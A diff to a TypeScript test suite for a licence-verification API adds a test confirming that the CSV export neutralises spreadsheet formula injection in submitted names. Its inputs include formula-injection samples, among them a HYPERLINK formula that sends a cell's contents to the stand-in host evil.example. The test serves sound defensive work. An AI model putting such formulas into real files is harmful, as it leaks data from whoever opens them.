@@ -187,7 +187,7 @@ describe('the evidence log', () => {
       verdict: answer.verdict,
       reasons: answer.reasons,
       name_match: answer.name_match,
-      licence_status: 'Probation - Active',
+      license_status: 'Probation - Active',
       expiration_date: '2027-03-31',
       source_id: 'tx-trec',
       last_verified: '2026-11-01T06:00:00.000Z',
@@ -262,6 +262,27 @@ describe('the evidence log', () => {
     expect(named).toMatchObject({ verdict: 'consider', name_match_result: 'close', name_compared_with: 'JOSÉ ÁLVARO MUÑOZ', http_status: '200' });
     const none = await t.api.get('/api/v1/verifications.csv?from=2099-01-01').buffer(true);
     expect(none.text.trim()).toBe(CSV_COLUMNS.join(','));
+  });
+
+  it('when a name sent starts with =, +, - or @ then the export prefixes its cell with \' so a spreadsheet does not run it', async () => {
+    const risky = ['=HYPERLINK("https://evil.example/?q="&A1,"Dana")', '+1 555 0100', '-2+3', '@SUM(A1:A9)'];
+    const licenses = [
+      ...risky.map((name) => ({ state: 'TX', license_number: '300001-b', name })),
+      { state: 'TX', license_number: '300001-b', first_name: '=cmd', last_name: 'Quinn' },
+      { state: 'TX', license_number: '300001-b', first_name: 'Dana', last_name: 'Quinn' },
+    ];
+    const res = await t.api.post('/api/v1/licensees/batch').send({ licenses });
+    const ids = res.headers['verification-id'].split(', ');
+    // The record answers each name exactly as sent.
+    const records = await Promise.all(ids.map((id: string) => record(id)));
+    expect(records.map((r) => r.name_sent)).toEqual(licenses.map(({ state, license_number, ...name }) => name));
+    const file = await t.api.get('/api/v1/verifications.csv?license_number=300001-b').buffer(true);
+    expect(file.status).toBe(200);
+    const rows = (parse(file.text, { columns: true }) as Record<string, string>[]).filter((r) => ids.includes(r.id));
+    // Newest first: a batch's items in reverse request order.
+    expect(rows.map((r) => r.id)).toEqual([...ids].reverse());
+    expect(rows.map((r) => r.name_sent).reverse()).toEqual([...risky.map((name) => `'${name}`), "'=cmd Quinn", 'Dana Quinn']);
+    expect(rows.map((r) => r.license_number)).toEqual(ids.map(() => '300001-b'));
   });
 
   it('when the quota refuses a verify then it answers 429 and nothing is recorded', async () => {
